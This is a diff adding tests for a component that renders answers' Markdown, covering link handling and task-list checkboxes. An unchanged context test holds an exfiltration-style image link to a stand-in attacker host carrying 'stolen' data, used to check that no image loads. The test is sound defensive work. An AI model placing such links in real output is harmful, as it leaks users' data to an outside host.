@@ -20,6 +20,18 @@ describe('the Markdown of an answer', () => {
     expect(link).toHaveAttribute('target', '_blank');
   });
 
+  it('makes no link of an address that does not say where it leads', () => {
+    shown('[settings](/settings/) [elsewhere](//example.org)');
+    expect(screen.queryByRole('link')).toBeNull();
+    expect(screen.getByText('settings')).toBeVisible();
+  });
+
+  it('says of each task whether it is done', () => {
+    shown('- [x] rent\n- [ ] tax');
+    expect(screen.getByRole('checkbox', { name: 'Done' })).toBeChecked();
+    expect(screen.getByRole('checkbox', { name: 'Not done' })).not.toBeChecked();
+  });
+
   it('loads no image from anywhere, and links to it instead', () => {
     const view = shown('![secret](https://evil.example/?q=stolen)');
     expect(view.querySelector('img')).toBeNull();
